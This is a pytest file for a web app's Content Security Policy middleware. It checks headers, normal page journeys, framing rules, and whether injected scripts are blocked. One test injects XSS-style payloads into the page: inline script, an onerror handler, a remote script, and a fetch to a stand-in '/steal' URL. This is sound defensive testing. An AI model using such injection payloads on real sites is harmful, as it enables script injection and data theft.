"""The content security policy: on every answer, kept by every page, and in the way of whoever
brings a script.
"""

import asyncio
import re
import urllib.error
import urllib.request

import pytest
from journeys import AT_REST, download, see_map

from lvm_core.runs import archive
from pages.api.csp import Policy, content_security_policy


def answer(app, scope) -> list:
    sent = []

    async def send(message):
        sent.append(message)

    asyncio.run(Policy(app)(scope, None, send))
    return sent


def test_headers_are_added_once_and_the_rest_is_kept():
    async def app(scope, receive, send):
        await send(
            {
                "type": "http.response.start",
                "status": 200,
                "headers": [(b"Content-Security-Policy", b"default-src *"), (b"x-mine", b"1")],
            }
        )
        await send({"type": "http.response.body", "body": b"abc"})

    start, body = answer(app, {"type": "http"})
    names = [name.lower() for name, _ in start["headers"]]
    headers = dict(start["headers"])
    assert len(names) == len(set(names)) and headers[b"x-mine"] == b"1" and body["body"] == b"abc"
    assert headers[b"content-security-policy"].decode() == content_security_policy()
    assert (
        headers[b"x-content-type-options"] == b"nosniff"
        and headers[b"referrer-policy"] == b"same-origin"
    )


def test_web_sockets_pass_untouched():
    async def app(scope, receive, send):
        await send({"type": "websocket.accept", "headers": []})

    assert answer(app, {"type": "websocket"}) == [{"type": "websocket.accept", "headers": []}]


def test_the_policy_names_streamlits_own_script_and_no_other_inline_one():
    scripts = re.search(r"script-src ([^;]*)", content_security_policy()).group(1)
    assert len(re.findall(r"'sha256-[\w+/]{43}='", scripts)) == 1
    assert (
        "unsafe-inline" not in scripts
        and "*" not in content_security_policy()
        and "http" not in content_security_policy()
    )


VIOLATIONS = (
    "addEventListener('securitypolicyviolation', e => (window.violations ??= "
    "[]).push(`${e.effectiveDirective} ${e.blockedURI} ${e.sourceFile}`));"
)


@pytest.fixture
def watched(page):
    """A page that keeps what the policy refused, on the page and in the console."""
    page.refused = []
    page.add_init_script(VIOLATIONS)
    page.on(
        "console",
        lambda message: (
            page.refused.append(message.text) if "Content Security Policy" in message.text else None
        ),
    )
    return page


class TestInTheBrowser:
    pytestmark = pytest.mark.browser

    @pytest.mark.parametrize(
        "path",
        [
            "",
            "data",
            "_stcore/health",
            "live/js/0/map/atlas.js",
            "live/decode",
            "live/scene",
            "media/nothing.png",
            "_stcore/upload_file/x/y",
            "static/nothing.js",
        ],
    )
    def test_every_answer_carries_it(self, server, path):
        try:
            headers = urllib.request.urlopen(f"{server}/{path}").headers
        except urllib.error.HTTPError as error:
            headers = error.headers
        assert headers["Content-Security-Policy"] == content_security_policy()
        assert (
            headers["X-Content-Type-Options"] == "nosniff"
            and headers["Referrer-Policy"] == "same-origin"
        )

    def test_every_page_works_under_it(self, watched, server):
        page = watched
        page.goto(server)
        page.get_by_role("button", name="Start with handwritten digits").first.click()
        page.locator("strong", has_text="Trained in").wait_for()
        see_map(page)
        page.get_by_text("3-D", exact=False).first.click()
        page.wait_for_function("() => document.querySelector('.at')?.atlas?.dims === 3")
        page.evaluate(AT_REST)
        # dragging, drawing and downloading under it: the journeys, where any refusal is an error
        page.get_by_role("link", name="Generate").click()
        page.get_by_text("Export or import a model").click()
        assert archive.read(download(page, "Download the model (zip)")).title.endswith(
            " VAE on digits"
        )
        page.get_by_role("link", name="Data").click()
        page.locator("input[type=file]").wait_for(state="attached")
        page.locator("input[type=file]").set_input_files(
            {"name": "a.csv", "mimeType": "text/csv", "buffer": b"a,b\n1,5\n2,3\n3,9\n4,1\n"}
        )
        page.get_by_text("Values per item").wait_for()
        assert page.evaluate("() => window.violations ?? []") == [] and page.refused == []

    def test_what_is_smuggled_in_neither_runs_nor_calls_home(self, watched, server):
        page = watched
        page.goto(server)
        page.locator("h1").first.wait_for()
        page.evaluate("""() => {
          const script = document.createElement('script'); script.textContent = 'window.hacked = 1'; document.body.append(script);
          const box = document.createElement('div'); box.innerHTML = '<img src="data:," onerror="window.hacked = 2">'; document.body.append(box);
          const far = document.createElement('script'); far.src = 'http://127.0.0.2:9/x.js'; document.body.append(far);
          const picture = new Image(); picture.src = 'http://127.0.0.2:9/x.png'; document.body.append(picture);
          fetch('http://127.0.0.2:9/steal').catch(() => {});
          const plugin = document.createElement('object'); plugin.data = '/live/js/map/mount.js'; document.body.append(plugin);
        }""")
        page.wait_for_function(
            "() => new Set((window.violations ?? []).map((line) => line.split(' ')[0])).size >= 5"
        )
        refused = {line.split()[0] for line in page.evaluate("() => window.violations")}
        assert page.evaluate("() => window.hacked") is None
        assert {
            "script-src-elem",
            "script-src-attr",
            "img-src",
            "connect-src",
            "object-src",
        } <= refused
        page.errors.clear()  # of what was refused on purpose
        page.outside.clear()

    @pytest.mark.parametrize("origin, framed", [("own", True), ("http://127.0.0.1:9", False)])
    def test_only_our_own_pages_may_frame_it(self, browser, server, origin, framed):
        context = browser.new_context()
        page = context.new_page()
        around = (server if origin == "own" else origin) + "/around"
        page.route(
            around,
            lambda route: route.fulfill(
                body=f"<iframe src='{server}/data'></iframe>", content_type="text/html"
            ),
        )
        page.goto(around)  # it has loaded when its frame has, or was refused one
        if framed:
            page.frame_locator("iframe").get_by_role("heading", name="Data").wait_for()
        else:
            assert page.frames[1].url.startswith("chrome-error:"), page.frames[1].url
        context.close()
